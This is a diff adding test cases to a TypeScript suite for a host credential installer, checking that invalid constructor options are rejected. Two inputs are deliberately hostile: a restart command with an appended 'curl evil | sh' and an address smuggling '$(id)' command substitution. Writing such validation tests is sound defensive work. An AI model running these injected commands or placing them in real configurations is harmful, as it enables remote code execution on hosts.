@@ -462,6 +462,40 @@ describe("HostCredentialInstall: bad input fails at construction (preview), nami
       () => new HostCredentialInstall("x", { connection, layouts: [serverLayout()], qemuGroup: "q m" }),
       /^qemuGroup:/,
     ],
+    [
+      "a restart command with shell syntax",
+      () =>
+        new HostCredentialInstall("x", {
+          connection,
+          layouts: [serverLayout()],
+          daemonConfig: true,
+          reload: "auto",
+          restartCommand: "systemctl restart libvirtd; curl evil | sh",
+        }),
+      /^restartCommand: "systemctl restart libvirtd; curl evil \| sh" is not a plain command/,
+    ],
+    [
+      "a verifyServed address that is not a host name or address",
+      () =>
+        new HostCredentialInstall("x", {
+          connection,
+          layouts: [serverLayout()],
+          reload: "auto",
+          verifyServed: { address: "h1 -proxy $(id)" },
+        }),
+      /^verifyServed\.address: "h1 -proxy \$\(id\)" is not a host name or address/,
+    ],
+    [
+      "reload auto with a reload command",
+      () =>
+        new HostCredentialInstall("x", {
+          connection,
+          layouts: [serverLayout()],
+          reload: "auto",
+          reloadCommand: "systemctl reload libvirtd",
+        }),
+      /^reloadCommand: give reloadCommand or reload: "auto", not both/,
+    ],
   ];
   it.each(cases)("%s", async (_name, make, message) => {
     await expect(captureResources(make)).rejects.toThrow(message);
